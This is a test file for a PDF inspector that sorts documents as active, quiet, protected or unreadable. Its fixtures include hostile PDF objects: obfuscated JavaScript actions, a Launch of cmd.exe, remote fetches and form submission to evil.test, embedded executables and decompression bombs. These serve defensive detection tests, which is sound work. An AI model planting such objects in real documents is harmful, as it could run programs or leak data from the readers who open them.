import { PDFDocument } from '@cantoo/pdf-lib';
import { afterAll, afterEach, describe, expect, it, jest } from '@jest/globals';
import { Logger } from '@nestjs/common';
import { deflateSync } from 'node:zlib';
import { makePdf, objectStream, packed } from '../../testing/make-pdf.js';
import { PdfInspector } from './pdf-inspector.js';
import { TemporaryFile } from './temporary-file.js';

const inspector = new PdfInspector();
afterAll(() => inspector.onApplicationShutdown());
afterEach(() => void jest.restoreAllMocks());

async function natureOf(bytes: Buffer) {
  const file = await TemporaryFile.of([bytes]);
  try {
    return await inspector.natureOf(file);
  } finally {
    await file.close();
  }
}

type Algorithm = NonNullable<Parameters<PDFDocument['encrypt']>[0]['algorithm']>;
const ALGORITHMS: Algorithm[] = ['AES-256', 'AES-128', 'RC4-128', 'RC4-40'];

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** What each does by itself, as an object that something refers to. */
const ACTIVE: [string, string][] = [
  ['a script', SCRIPT],
  ['a script in hexadecimal', '<< /S /JavaScript /JS <616c657274> >>'],
  ['a script whose name is disguised', '<< /S /J#61vaScript /J#53 (alert) >>'],
  ['a script in a chain of actions', `<< /S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}] >>`],
  ['a program that is started', '<< /S /Launch /F (cmd.exe) >>'],
  ['a file that is fetched', '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>'],
  ['a form that is sent', '<< /S /SubmitForm /F (https://evil.test) >>'],
  ['data that is fetched', '<< /S /ImportData /F (a.fdf) >>'],
  ['an attached file', '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'],
  ['an attachment on a page', '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] >>'],
  ['a film with scripts', '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>'],
  ['a model with scripts', '<< /Type /Annot /Subtype /3D /Rect [0 0 1 1] >>'],
  ['a form that is a program (XFA)', '<< /Fields [] /XFA [(template) 5 0 R] >>'],
  ['an action when a page opens', '<< /Type /Page /AA << /O << /S /Named /N /Print >> >> >>'],
];

describe('a PDF that would do something', () => {
  it.each(ACTIVE)('by %s is found', async (_what, object) => {
    expect(await natureOf(makePdf({ page: '/Annots [4 0 R]', objects: [object] }))).toBe('active');
  });

  it.each(ACTIVE)('by %s inside a packed stream of objects is found', async (_what, object) => {
    const pdf = makePdf({ page: '/Annots [101 0 R]', objects: [objectStream(['<< /Type /Font >>', object])] });
    expect(pdf.includes(object)).toBe(false);
    expect(await natureOf(pdf)).toBe('active');
  });

  it.each<[string, Buffer]>([
    ['when it opens', makePdf({ catalog: `/OpenAction ${SCRIPT}` })],
    ['when it opens, elsewhere', makePdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /Named /N /Print >>'] })],
    ['of all its pages', makePdf({ catalog: '/Names << /JavaScript << /Names [(a) 9 0 R] >> >>' })],
    ['of attached files', makePdf({ catalog: '/Names << /EmbeddedFiles << /Kids [9 0 R] >> >>' })],
    ['that stands in a stream', makePdf({ objects: ['<< /JS 5 0 R >>', packed('', Buffer.from('app.alert(1)'))] })],
    ['that nothing refers to', makePdf({ objects: ['<< >>', SCRIPT] })],
    [
      'that a later revision hides',
      Buffer.concat([makePdf({ objects: [SCRIPT] }), makePdf({ objects: ['<< >>'] }).subarray(9)]),
    ],
  ])('%s is found', async (_what, pdf) => {
    expect(await natureOf(pdf)).toBe('active');
  });
});

describe('a PDF that only says something', () => {
  it.each<[string, Buffer]>([
    ['of one page', makePdf()],
    ['that opens at a page', makePdf({ catalog: '/OpenAction [3 0 R /XYZ null null 0]' })],
    ['that goes to a page when it opens', makePdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })],
    [
      'with a link',
      makePdf({
        page: '/Annots [4 0 R]',
        objects: ['<< /Subtype /Link /A << /S /URI /URI (https://sat.gob.mx) >> >>'],
      }),
    ],
    [
      'with fonts of unlucky names',
      makePdf({
        page: '/Resources << /Font << /JS 4 0 R /AA 4 0 R /EF 4 0 R >> >>',
        objects: ['<< /Type /Font /BaseFont /A /FontDescriptor 5 0 R >>', '<< /Type /FontDescriptor >>'],
      }),
    ],
    [
      'with fields to fill in',
      makePdf({ catalog: '/AcroForm << /Fields [4 0 R] >>', objects: ['<< /FT /Tx /T (nombre) >>'] }),
    ],
    ['with empty trees of names', makePdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' })],
    ['that speaks of scripts', makePdf({ objects: [packed('', Buffer.from('(/S /JavaScript /JS) Tj'))] })],
    ['with packed objects', makePdf({ objects: [objectStream(['<< /Type /Font >>', '[1 2 3]'])] })],
    ['without a table of its objects', Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')],
  ])('%s is quiet', async (_what, pdf) => {
    expect(await natureOf(pdf)).toBe('quiet');
  });
});

describe('a PDF that is encrypted', () => {
  async function encrypted(algorithm: Algorithm, { script = false, userPassword = '' } = {}): Promise<Buffer> {
    const document = await PDFDocument.create();
    document.addPage().drawText('Estado de cuenta');
    if (script) document.addJavaScript('opened', 'app.alert(1)');
    document.encrypt({ ownerPassword: 'del banco', userPassword, algorithm, allowWeakCryptography: true });
    return Buffer.from(await document.save());
  }

  it.each(ALGORITHMS)('by %s and asks for no password is looked into as any other', async (algorithm) => {
    expect(await natureOf(await encrypted(algorithm))).toBe('quiet');
    expect(await natureOf(await encrypted(algorithm, { script: true }))).toBe('active');
  });

  it.each(ALGORITHMS)('by %s and asks for one is protected', async (algorithm) => {
    expect(await natureOf(await encrypted(algorithm, { userPassword: '1234' }))).toBe('protected');
  });
});

describe('a PDF that nobody can look into', () => {
  it('is protected, in a way that nobody knows', async () => {
    expect(await natureOf(makePdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard >>'] }))).toBe(
      'protected',
    );
  });

  it.each<[string, () => Buffer]>([
    [
      'a small file that unpacks to a huge one',
      () => makePdf({ objects: [packed('/Type /ObjStm /N 1 /First 4', Buffer.alloc(300_000_000))] }),
    ],
    [
      'many of them that are huge together',
      () => {
        const half = packed(
          '/Type /ObjStm /N 1 /First 4',
          Buffer.concat([Buffer.from('9 0 null'), Buffer.alloc(60_000_000, ' ')]),
        );
        return makePdf({ objects: [half, half] });
      },
    ],
    [
      'one packed twice',
      () =>
        makePdf({
          objects: [
            packed('/Type /ObjStm /N 1 /First 4', deflateSync(Buffer.from('9 0 << >>')), '[/FlateDecode /FlateDecode]'),
          ],
        }),
    ],
    [
      'a stream of objects that is damaged',
      () =>
        makePdf({
          objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nhola\nendstream'],
        }),
    ],
    ['an object that makes no sense', () => makePdf({ objects: ['<< /A ( >>'] })],
    ['brackets without end', () => makePdf({ objects: ['['.repeat(200_000)] })],
    ['nothing of a PDF', () => Buffer.from('hola')],
  ])('%s is unreadable', async (_what, pdf) => {
    // By what it is, and not by the time or the memory that it took.
    const givenUp = jest.spyOn(Logger.prototype, 'warn');
    expect(await natureOf(pdf())).toBe('unreadable');
    expect(givenUp).not.toHaveBeenCalled();
  });

  it('holds nobody up: the next one is looked into', async () => {
    expect(await natureOf(makePdf())).toBe('quiet');
  });
});
